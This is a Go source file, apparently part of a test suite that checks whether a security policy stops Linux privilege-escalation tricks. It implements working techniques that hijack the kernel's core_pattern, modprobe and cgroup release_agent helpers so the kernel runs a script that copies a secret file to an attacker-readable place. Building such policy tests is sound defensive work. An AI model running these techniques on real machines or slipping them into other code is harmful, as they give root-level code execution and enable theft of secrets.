//go:build linux

package bypass

import (
	"errors"
	"fmt"
	"os"
	"os/exec"
	"strings"

	"golang.org/x/sys/unix"
)

const (
	corePattern = "/proc/sys/kernel/core_pattern"
	modprobe    = "/proc/sys/kernel/modprobe"
)

// fileHelperTechniques have the kernel start a program for them, whose ancestor is no attacker. The policy blocks the two
// files that name such programs.
func fileHelperTechniques() []technique {
	helped := func(name string, attempt func(*Env) error) technique {
		return technique{name: name, before: keepHelpers, attempt: attempt, effect: looted}
	}
	return []technique{
		helped("core_pattern", func(e *Env) error { return errors.Join(writeHelper(e, corePattern, "|"), dumpCore(e)) }),
		helped("core_pattern by another mount of proc", func(e *Env) error {
			return errors.Join(ownProc(e), writeHelper(e, e.work("proc/sys/kernel/core_pattern"), "|"), dumpCore(e))
		}),
		helped("modprobe helper", func(e *Env) error { return errors.Join(writeHelper(e, modprobe, ""), requestModule(e)) }),
		helped("modprobe helper by another mount of proc", func(e *Env) error {
			return errors.Join(ownProc(e), writeHelper(e, e.work("proc/sys/kernel/modprobe"), ""), requestModule(e))
		}),
		helped("modprobe helper replaced by a mount", mountHelper),
		helped("cgroup release_agent", releaseAgent),
	}
}

// keepHelpers puts the names of the kernel's helpers back after an attempt.
func keepHelpers(e *Env) error {
	if err := wholeMachine(e); err != nil {
		return err
	}
	for _, file := range []string{corePattern, modprobe} {
		was, err := os.ReadFile(file)
		if err != nil {
			return err
		}
		e.undo(func() error { return os.WriteFile(file, was, 0o644) })
	}
	return nil
}

// helper writes the program that the kernel is to start: it copies the secret to where the attacker may read it.
func helper(e *Env) (string, error) {
	path := e.work("help")
	script := fmt.Sprintf("#!/bin/sh\nPATH=/usr/bin:/bin\ncat '%s' >'%s' 2>&1\nmv '%s' '%s'\n", e.Secret, e.work("taken"), e.work("taken"), e.work("loot"))
	return path, errors.Join(os.WriteFile(path, []byte(script), 0o755), os.Chmod(path, 0o755))
}

// writeHelper makes that program the one that a file of the kernel's names.
func writeHelper(e *Env, file, prefix string) error {
	path, err := helper(e)
	if err != nil {
		return err
	}
	if len(prefix+path) > 127 { // the kernel keeps no more
		short := fmt.Sprintf("%s/b%d", os.TempDir(), os.Getpid())
		if err := os.Symlink(path, short); err != nil {
			return err
		}
		path = short
	}
	f, err := os.OpenFile(file, os.O_WRONLY, 0)
	if err != nil {
		return err
	}
	_, err = f.WriteString(prefix + path)
	return errors.Join(err, f.Close())
}

// ownProc mounts proc once more: the path of what is in it is another then, and so is its device.
func ownProc(e *Env) error {
	at := e.work("proc")
	return errors.Join(ownMounts(), os.Mkdir(at, 0o755), unix.Mount("proc", at, "proc", 0, ""))
}

// dumpCore has a process of the attacker's die of a signal that leaves a core.
func dumpCore(e *Env) error {
	cmd := exec.Command("/bin/sh", "-c", "ulimit -c unlimited; kill -SEGV $$")
	if err := cmd.Run(); err == nil {
		return errors.New("the process did not die")
	}
	return awaitLoot(e)
}

// requestModule asks for a family of sockets that nobody has: the kernel looks for a module.
func requestModule(e *Env) error {
	for _, family := range []int{unix.AF_ATMPVC, unix.AF_X25, unix.AF_ROSE, unix.AF_ECONET, unix.AF_IUCV} {
		if fd, err := unix.Socket(family, unix.SOCK_DGRAM, 0); err == nil {
			_ = unix.Close(fd)
		}
	}
	return awaitLoot(e)
}

// mountHelper shows everybody the attacker's program by the name of modprobe, whichever that is.
func mountHelper(e *Env) error {
	path, err := helper(e)
	if err != nil {
		return err
	}
	name, err := os.ReadFile(modprobe)
	if err != nil {
		return err
	}
	at := strings.TrimSpace(string(name))
	if err := unix.Mount(path, at, "", unix.MS_BIND, ""); err != nil {
		return err
	}
	return errors.Join(requestModule(e), unix.Unmount(at, unix.MNT_DETACH))
}

// releaseAgent has the kernel start the program when a version 1 cgroup is empty.
func releaseAgent(e *Env) error {
	at := e.work("cgroup")
	if err := errors.Join(ownMounts(), os.Mkdir(at, 0o755)); err != nil {
		return err
	}
	if err := unix.Mount("bypass", at, "cgroup", 0, "none,name=bypass"); errors.Is(err, unix.ENODEV) || errors.Is(err, unix.EINVAL) {
		return lacks("this kernel has no version 1 cgroups: " + err.Error())
	} else if err != nil {
		return fmt.Errorf("mount: %w", err)
	}
	group := at + "/group"
	if err := errors.Join(writeHelper(e, at+"/release_agent", ""), os.Mkdir(group, 0o755), os.WriteFile(group+"/notify_on_release", []byte("1"), 0o644)); err != nil {
		return err
	}
	err := exec.Command("/bin/sh", "-c", "echo $$ >'"+group+"/cgroup.procs'").Run()
	return errors.Join(err, awaitLoot(e))
}

func awaitLoot(e *Env) error {
	return eventually(func() error {
		if err := exists(e.work("loot")); err != nil {
			return fmt.Errorf("%w: the helper took nothing", errRefused)
		}
		return nil
	})
}

// looted: the secret lies where the attacker may read it.
func looted(e *Env) error { return steal(e, e.work("loot")) }
